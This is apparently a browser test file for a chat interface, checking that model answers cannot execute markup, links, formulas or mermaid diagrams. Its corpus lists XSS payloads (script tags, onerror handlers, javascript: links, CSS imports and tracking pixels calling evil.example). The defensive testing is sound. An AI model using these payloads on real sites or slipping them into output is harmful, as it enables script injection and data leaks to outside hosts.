import { expect, test } from 'vitest';
import { setUpChats } from './support/chat-page.ts';
import { describeWithChromium } from './support/chromium.ts';

/** What a model could be made to say. Each would set `window.pwned`, load something, or lead somewhere, if it worked. */
const corpus = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input autofocus onfocus="window.pwned=1"><button>x</button></form>',
  '<a href="javascript:window.pwned=1" id=link>click</a>',
  '[a](javascript:window.pwned=1) [b](JAVASCRIPT:window.pwned=1) [c](&#106;avascript:window.pwned=1)',
  '[d](data:text/html,<script>window.pwned=1</script>) [e](vbscript:x) [f](blob:https://evil.example/1)',
  '[g]( java\tscript:window.pwned=1 ) [h](<javascript:window.pwned=1>) <javascript:window.pwned=1>',
  '[i][j]\n\n[j]: javascript:window.pwned=1',
  '![k](https://evil.example/pixel.png?secret) ![l](javascript:window.pwned=1) ![m](data:image/svg+xml;base64,PHN2Zy8+)',
  '![n][o]\n\n[o]: https://evil.example/pixel.png "t"',
  '$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/p.png}$ $\\htmlStyle{background:url(https://evil.example/)}{x}$',
  '$$\\unicode{<img src=x onerror=window.pwned=1>} \\url{javascript:window.pwned=1}$$',
  '$\\def\\x{\\x\\x}\\x$ $\\rule{99999em}{99999em}$',
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=window.pwned=1>"] --> B\n  click A "javascript:window.pwned=1"\n  click B call alert()\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/x.css)"}}%%\nflowchart LR\n  A["<script>parent.pwned=1</script>"] --> B["<iframe src=https://evil.example></iframe>"]\n```',
  '```html\n<script>window.pwned=1</script>\n```',
  '~~~"><img src=x onerror=window.pwned=1>\nx\n~~~',
  '| <img src=x onerror=window.pwned=1> | [x](javascript:window.pwned=1) |\n| --- | --- |\n| <script>window.pwned=1</script> | x |',
  '[^<img src=x onerror=window.pwned=1>]\n\n[^<img src=x onerror=window.pwned=1>]: <script>window.pwned=1</script>',
  '__proto__ [constructor] [__proto__]: x',
];

describeWithChromium('what a model says can do no harm', () => {
  const chats = setUpChats();

  test('no markup, link, picture, formula or diagram of it runs, loads or leads anywhere', async () => {
    await using chat = await chats.open();
    const { page } = chat;
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      const { origin } = new URL(chats.server.url);
      if (!request.url().startsWith(`${origin}/`) && !request.url().startsWith('data:'))
        elsewhere.push(request.url());
    });
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) violations.push(message.location().url);
    });
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await chat.ask(`/pace 20000\n/say ${corpus.join('\n\n')}`);
    await chat.answered();
    // Diagrams come last, each in its own time: drawn, or said to be none.
    await page.waitForFunction(
      (count) => document.querySelectorAll('.diagram img, .diagram-note').length >= count,
      2,
    );
    for (const link of await chat.answer().locator('a[href]').all()) {
      expect(await link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:|#)/);
    }
    const found = await page.evaluate(() => ({
      pwned: Object.hasOwn(window, 'pwned'),
      elements: document.querySelectorAll(
        'article script, article iframe, article style, article link, article form, article object, article embed, article base, article meta',
      ).length,
      handlers: Array.from(document.querySelectorAll('article *')).filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      pictures: Array.from(
        document.querySelectorAll('article img'),
        (image) => image.getAttribute('src') ?? '',
      ).filter((source) => !source.startsWith('data:image/')),
    }));
    expect(found).toEqual({ pwned: false, elements: 0, handlers: 0, pictures: [] });
    expect(elsewhere).toEqual([]);
    expect(dialogs).toBe(0);
    // Mermaid tries out what it draws; its frame's own policy stops what is in it. Nothing else is ever tried.
    expect(violations.filter((url) => !url.includes('/diagrams/'))).toEqual([]);
    expect(chat.complaints.filter((text) => !text.includes('inline event handler'))).toEqual([]);
    expect(await chat.violations()).toEqual([]);
  });

  test('diagrams are drawn in a frame without an origin, and shown as pictures', async () => {
    await using chat = await chats.open();
    const { page } = chat;
    await chat.ask('/pace instant\n/say ```mermaid\nflowchart LR\n  A[Bytes] --> B[Events]\n```');
    await chat.answered();
    const picture = chat.answer().locator('.diagram img');
    await picture.waitFor();
    expect(
      await picture.evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth)),
    ).toBeGreaterThan(50);
    const frame = page.locator('iframe');
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
    const inside = page.frames().find((one) => one.parentFrame() !== null);
    expect(await inside?.evaluate(() => window.origin)).toBe('null');
    await chat.answer().getByRole('button', { name: 'Source' }).click();
    await chat.answer().getByRole('figure', { name: 'Code, mermaid' }).waitFor();
    expect(chat.complaints).toEqual([]);
  });

  test('a diagram that can not be read stays its source', async () => {
    await using chat = await chats.open();
    await chat.ask('/pace instant\n/say ```mermaid\nthis is no diagram\n```');
    await chat.answered();
    await chat.answer().getByText('This diagram can’t be drawn').waitFor();
    expect(await chat.answer().getByRole('figure').textContent()).toContain('this is no diagram');
    expect(chat.complaints).toEqual([]);
  });

  test('a picture from elsewhere is a link that says so, and nothing is loaded', async () => {
    await using chat = await chats.open();
    await chat.ask('/pace instant\n/say Look: ![a cat](https://cats.example/1.png)');
    await chat.answered();
    const link = chat.answer().getByRole('link', { name: /a cat/ });
    expect(await link.getAttribute('href')).toBe('https://cats.example/1.png');
    expect(await link.getAttribute('rel')).toContain('noopener');
    await link.hover();
    await chat.page.getByText('cats.example would learn that you read this').waitFor();
    expect(await chat.answer().locator('img').count()).toBe(0);
  });
});
